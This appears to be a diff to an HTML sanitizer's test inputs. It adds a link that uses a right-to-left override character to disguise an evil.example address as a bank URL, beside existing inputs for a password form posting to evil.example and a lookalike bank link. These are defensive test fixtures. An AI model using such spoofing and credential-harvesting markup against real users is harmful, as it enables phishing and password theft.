@@ -19,6 +19,7 @@ const INPUTS = {
   form: '<form action="//evil.example"><input name="password"><button>보내기</button></form>',
   quoted: '<mx-reply><blockquote>옛말</blockquote></mx-reply>새말',
   lookalike: '<a href="https://evil.example/login">https://bank.example</a>',
+  turned: '<p>&#8238;<a href="https://evil.example/">moc.knab//:sptth</a></p>',
   deep: '<b>'.repeat(5000) + '깊이',
   fine: '<p>좋은 <strong>말</strong> <a href="https://example.org/">여기</a></p><ol start="3"><li>셋</li></ol>',
 }
